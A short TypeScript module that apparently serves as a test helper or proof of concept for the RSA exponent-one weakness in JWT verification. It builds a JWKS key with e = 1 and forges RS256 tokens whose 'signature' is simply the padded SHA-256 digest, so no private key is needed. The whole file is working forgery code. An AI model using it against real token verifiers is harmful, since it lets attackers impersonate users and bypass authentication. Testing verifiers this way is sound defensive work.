/**
 * Tokens anyone can sign: a JWKS key whose RSA public exponent is 1 turns verification into
 * "signature == padded digest", so the padded digest itself is a valid signature, no private key needed.
 */
import { createHash } from "node:crypto";

/** DER prefix of a SHA-256 DigestInfo (RFC 8017, §9.2, note 1). */
const SHA256_DIGEST_INFO = Buffer.from("3031300d060960864801650304020105000420", "hex");

/** A public key with e = 1 over a real 2048-bit modulus, as a JWKS would publish it. */
export function exponentOneJwk(kid: string, modulus: string): Record<string, string> {
  return { kty: "RSA", use: "sig", kid, n: modulus, e: "AQ" };
}

/** An RS256 token "signed" for a key with e = 1: the EMSA-PKCS1-v1_5 encoding of the digest. */
export function forgeForExponentOne(claims: object, kid: string, modulus: string): string {
  const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString("base64url");
  const signingInput = `${encode({ typ: "JWT", alg: "RS256", kid })}.${encode(claims)}`;
  const digest = createHash("sha256").update(signingInput).digest();
  const encoded = Buffer.concat([SHA256_DIGEST_INFO, digest]);
  const length = Buffer.from(modulus, "base64url").length;
  const padding = Buffer.alloc(length - encoded.length - 3, 0xff);
  const signature = Buffer.concat([Buffer.from([0, 1]), padding, Buffer.from([0]), encoded]);
  return `${signingInput}.${signature.toString("base64url")}`;
}
